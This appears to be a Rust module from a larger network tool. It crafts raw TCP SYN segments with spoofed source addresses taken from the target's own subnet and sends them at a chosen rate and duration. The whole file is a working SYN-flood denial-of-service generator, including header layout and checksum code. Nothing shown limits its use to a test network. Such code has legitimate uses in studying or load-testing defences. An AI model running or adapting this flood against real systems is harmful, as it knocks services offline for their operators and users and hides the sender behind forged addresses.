//! A flood of first segments of TCP from addresses of the segment that nobody has.

use anyhow::{Context as _, Result};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{Ipv4Addr, SocketAddrV4};

/// `IPPROTO_RAW`: the IP header is ours.
const RAW: i32 = 255;
/// Addresses that it comes from: the last byte of the first one, and how many.
const SOURCES: (u8, u32) = (128, 100);
/// Bytes of both headers without options.
const BYTES: usize = 40;

/// Sends so many a second for so long; says how many.
pub(super) fn flood(address: &str, rate: &str, seconds: &str) -> Result<()> {
    let to: SocketAddrV4 = address.parse().context("ADDRESS is an IPv4 address and a port")?;
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).context("raw socket")?;
    let target = SockAddr::from(SocketAddrV4::new(*to.ip(), 0));
    // A full queue loses the frame, as a switch would.
    super::at_rate(rate, seconds, |number| drop(socket.send_to(&segment(number, to), &target)))
}

/// Each number has an address and a port of its own, as far as they last.
fn segment(number: u32, to: SocketAddrV4) -> [u8; BYTES] {
    let [a, b, c, _] = to.ip().octets();
    let (first, count) = SOURCES;
    let last = first.saturating_add(u8::try_from(number % count).unwrap_or(0));
    let from = Ipv4Addr::new(a, b, c, last);
    let port = 1024 + u16::try_from(number / count % 60_000).unwrap_or(0);
    let mut bytes = [0; BYTES];
    let parts: [(usize, &[u8]); 8] = [
        // Version and length; the kernel fills in length of all, number and checksum.
        (0, &[0x45]),
        // Time to live, TCP.
        (8, &[64, 6]),
        (12, &from.octets()),
        (16, &to.ip().octets()),
        (20, &port.to_be_bytes()),
        (22, &to.port().to_be_bytes()),
        (24, &number.to_be_bytes()),
        // Five words of header, SYN, a window.
        (32, &[0x50, 0x02, 0xff, 0xff]),
    ];
    for (at, part) in parts {
        bytes.iter_mut().skip(at).zip(part).for_each(|(to, from)| *to = *from);
    }
    // The pseudo header: both addresses, the protocol, the length of the segment.
    let (words, _) = bytes[12..].as_chunks::<2>();
    let words = words.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
    let sum = words.sum::<u32>() + 6 + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    let checksum = !u16::try_from(folded).unwrap_or(0);
    bytes[36..38].copy_from_slice(&checksum.to_be_bytes());
    bytes
}
